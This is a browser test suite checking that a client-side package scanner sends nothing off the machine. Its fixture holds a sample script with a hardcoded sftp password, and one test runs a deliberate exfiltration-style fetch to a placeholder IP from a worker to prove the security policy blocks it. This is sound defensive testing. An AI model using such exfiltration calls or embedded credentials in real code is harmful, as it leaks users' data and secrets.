// Privacy a reviewer can check: a whole session (About, offline download, drop, browse every
// view, profile, every export, reopen the JSON export, reload) makes no request but for the
// page's own static files and its own blob: URLs, and trips no Content-Security-Policy rule,
// in the page or in any of its workers.
import { test } from "node:test";
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { DIST, ROOT, dropFile, openPage, shot, waitDone, zip, shared } from "./support.mjs";

const ctx = shared();

const sha256 = (bytes) => createHash("sha256").update(bytes).digest("hex");

const PACKAGE = zip([
  ["etc/cron.d/import", "0 3 * * * acme /opt/acme/bin/import.sh\n"],
  [
    "opt/acme/bin/import.sh",
    "#!/bin/sh\nsshpass -p 'Winter2024!' sftp ops@sftp-legacy.example.net:/in <<EOF\nput data.csv\nEOF\n" +
      "curl -s https://api.example.com/v2/orders\n",
  ],
  ["opt/acme/conf/app.properties", "db.url=jdbc:postgresql://db.internal:5432/acme\ncache.redis.host=redis.internal\n"],
  ["README.md", "Upgrade takes about 20 minutes of downtime.\n"],
]);

/** The page's own static files: the page and the offline file it offers. */
function isOwnStatic(url, origin) {
  const u = new URL(url);
  if (u.protocol === "blob:") return url.startsWith(`blob:${origin.slice(0, -1)}`);
  return `${u.origin}/` === origin && ["/", "/index.html", "/preflight.html"].includes(u.pathname);
}

/**
 * Record CSP violations inside every worker the page starts, too: a worker's violations fire
 * on its own global scope, which the page's listener does not see. The listener reports
 * through the worker's console, which Playwright relays.
 */
function watchWorkers(page, log) {
  const watched = [];
  page.on("worker", (w) => {
    w.on("console", (m) => {
      if (m.text().startsWith("CSP violation")) log.problems.push(`worker ${m.text()}`);
    });
    watched.push(
      w
        .evaluate(() =>
          self.addEventListener("securitypolicyviolation", (e) =>
            console.log(`CSP violation: ${e.violatedDirective} blocked ${e.blockedURI}`),
          ),
        )
        .catch(() => {}), // a worker that ended before the listener went in
    );
  });
  return watched;
}

const TABS = [
  "findings", "schedules", "endpoints", "credentials", "migrations", "units",
  "certificates", "config", "inventory", "checklist", "files", "diagnostics",
];

test("the About panel names what stays in the browser, the build, and the offline file's SHA-256", async () => {
  const { page, log, context } = await openPage(ctx.browser, ctx.url, { acceptDownloads: true });
  await page.getByTestId("about-button").click();
  const about = page.getByTestId("about-panel");
  await about.waitFor();
  const text = await about.innerText();
  assert.match(text, /never leaves this browser/i);
  assert.match(text, /connect-src 'none'/);
  assert.match(text, /Network tab/);
  const version = readFileSync(join(ROOT, "Cargo.toml"), "utf8").match(/^version = "(.*)"$/m)[1];
  assert.equal(await page.getByTestId("about-version").innerText(), version);
  assert.match(await page.getByTestId("about-build-time").innerText(), /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/);

  // The digest shown is the offline file's, as published in SHA256SUMS.
  const offline = readFileSync(join(DIST, "preflight.html"));
  const shown = await page.getByTestId("about-offline-sha256").innerText();
  assert.equal(shown, sha256(offline));
  assert.equal(readFileSync(join(DIST, "SHA256SUMS"), "utf8").split(/\s+/)[0], shown);
  await shot(page, "about");

  // "Download for offline use" saves exactly that file.
  const [download] = await Promise.all([
    page.waitForEvent("download"),
    about.getByTestId("offline-download").click(),
  ]);
  assert.equal(download.suggestedFilename(), "preflight.html");
  assert.equal(sha256(readFileSync(await download.path())), shown);

  // Escape closes the panel.
  await page.getByTestId("about-close").focus();
  await page.keyboard.press("Escape");
  await about.waitFor({ state: "detached" });
  // ... and gives the focus back to the button that opened it.
  assert.equal(await page.evaluate(() => document.activeElement?.dataset.testid), "about-button");
  assert.deepEqual(log.problems, []);
  await context.close();
});

test("a whole session requests nothing but the page's own files and trips no CSP rule", async () => {
  const { page, log, context } = await openPage(ctx.browser, ctx.url, {
    acceptDownloads: true,
    permissions: ["clipboard-read", "clipboard-write"],
  });
  const watched = watchWorkers(page, log);

  // About, and the offline file from the header's link.
  await page.getByTestId("about-button").click();
  await page.getByTestId("about-close").click();
  const [offline] = await Promise.all([page.waitForEvent("download"), page.getByTestId("offline-download").first().click()]);
  await offline.path();

  // Drop a package and look at every view.
  await dropFile(page, "Full-upgrade-package-dten.zip", PACKAGE);
  await waitDone(page);
  for (const tab of TABS) {
    await page.getByTestId(`tab-${tab}`).click();
  }
  await page.getByTestId("tab-files").click();
  await page.getByTestId("file-tree").getByText("import.sh").click();
  await page.getByTestId("source-text").waitFor();
  await page.getByTestId("reveal").first().click();
  await page.getByTestId("source-close").click();

  // The profile: open and close.
  await page.getByTestId("profile-button").click();
  await page.getByTestId("profile-panel").waitFor();
  await page.getByTestId("profile-button").click();

  // Every export, downloaded, and one copied.
  const exports = {};
  for (const format of ["markdown", "jira", "json", "sarif", "csv"]) {
    await page.getByTestId("export-format").selectOption(format);
    const [file] = await Promise.all([page.waitForEvent("download"), page.getByTestId("export-download").click()]);
    exports[format] = { name: file.suggestedFilename(), text: readFileSync(await file.path(), "utf8") };
  }
  await page.getByTestId("export-copy").click();
  await page.getByTestId("export-status").filter({ hasText: "Copied" }).waitFor();
  for (const { text } of Object.values(exports)) assert.ok(!text.includes("Winter2024!"), "an export holds the password");

  // Reopen the JSON export in the same page, then reload the page and scan the sample.
  await dropFile(page, exports.json.name, Buffer.from(exports.json.text));
  await page.getByTestId("report-view").waitFor();
  await page.getByTestId("tab-checklist").click();
  await page.reload();
  await page.getByTestId("sample-button").click();
  await waitDone(page);
  await shot(page, "privacy-session");
  await Promise.all(watched);

  assert.ok(watched.length >= 2, `workers watched: ${watched.length}`);
  assert.deepEqual(log.problems, []);
  const foreign = log.requests.filter((url) => !isOwnStatic(url, ctx.url));
  assert.deepEqual(foreign, [], "requests other than the page's own static files");
  // The log is live: it saw the page itself and the workers' blob: URLs. (A download is a
  // navigation Playwright reports as a download, not a request: checked in the test above.)
  assert.ok(log.requests.some((u) => u === ctx.url));
  assert.ok(log.requests.some((u) => u.startsWith("blob:")));
  await context.close();
});

test("a connection attempted from a worker is blocked and caught by the session's checks", async () => {
  // The net of the test above can fail: a fetch from inside a worker is refused by the policy
  // the worker inherits, and shows up as a violation.
  const { page, log, context } = await openPage(ctx.browser, ctx.url);
  const watched = watchWorkers(page, log);
  const first = page.waitForEvent("worker");
  // Big enough that the scan's first worker is still alive when the test reaches into it.
  const line = "ts=2026-11-26T03:00:00Z level=info msg=\"imported row\" host=app-01\n";
  const big = zip(Array.from({ length: 40 }, (_, i) => [`var/log/import-${i}.log`, line.repeat(12000)]));
  await dropFile(page, "big.zip", big);
  const worker = await first;
  await Promise.all(watched);
  const outcome = await worker.evaluate(() =>
    fetch("http://203.0.113.7/exfiltrate").then(() => "sent", (e) => `blocked: ${e.name}`),
  );
  assert.match(outcome, /^blocked/);
  await waitDone(page);
  assert.ok(
    log.problems.some((p) => p.startsWith("worker CSP violation: connect-src")),
    `no violation recorded: ${log.problems.join("\n")}`,
  );
  assert.ok(!log.requests.some((u) => u.includes("203.0.113.7")));
  await context.close();
});
